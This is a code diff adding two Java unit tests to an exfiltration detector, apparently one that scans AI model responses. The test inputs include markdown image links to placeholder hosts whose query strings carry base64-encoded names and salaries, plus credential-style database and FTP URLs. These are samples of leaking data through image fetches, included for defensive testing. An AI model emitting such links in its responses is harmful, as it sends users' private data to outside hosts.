@@ -178,6 +178,41 @@ class ExfiltrationDetectorTest extends DetectorContractTest {
   }
 
   @Test
+  void anImageNestedInManyBracketsIsFoundAsWhenItStandsAlone() {
+    String image = fixture("image-query-exfil.md").strip();
+    Finding alone = only(image);
+    for (int depth : new int[] {1, 7, 8, 9, 20, 63}) {
+      String nested = "[".repeat(depth) + image;
+      List<Finding> found = detectResponse(nested);
+      assertThat(found).as("inside %d brackets", depth).hasSize(1);
+      assertThat(found.get(0).metadata()).isEqualTo(alone.metadata());
+      assertThat(found.get(0).spans().get(0).start())
+          .isEqualTo(alone.spans().get(0).start() + depth);
+    }
+  }
+
+  @Test
+  void urlsOfTheSameKindAndReasonsShareTheirWordsButNotTheirHosts() {
+    String text =
+        "![a](https://One.Example/p?d=QWxpY2UgU21pdGggLSBzYWxhcnkgOTUwMDA)\n"
+            + "![b](https://two.example/p?d=Qm9iIEpvbmVzIC0gc2FsYXJ5IDg1MDAw)\n"
+            + "see postgres://admin@ and ftp://guest@ for the dumps\n";
+    List<Finding> found = detectResponse(text);
+
+    assertThat(found).hasSize(4);
+    assertThat(found.get(0).message()).endsWith(" to one.example");
+    assertThat(found.get(1).message()).endsWith(" to two.example");
+    assertThat(found.get(0).metadata()).containsEntry("host", "one.example");
+    assertThat(found.get(1).metadata()).containsEntry("host", "two.example");
+    assertThat(found.get(0).metadata().get("signals"))
+        .isEqualTo(found.get(1).metadata().get("signals"));
+    assertThat(found.get(2).metadata())
+        .doesNotContainKey("host")
+        .isEqualTo(found.get(3).metadata());
+    assertThat(found.get(2).spans()).isNotEqualTo(found.get(3).spans());
+  }
+
+  @Test
   void adversarialBracketSoupYieldsNoFalseFindings() {
     String soup = "[[[[](](](](![](![](<img<img <a href=".repeat(2000) + "]]]]))))";
     assertThat(detectResponse(soup)).isEmpty();
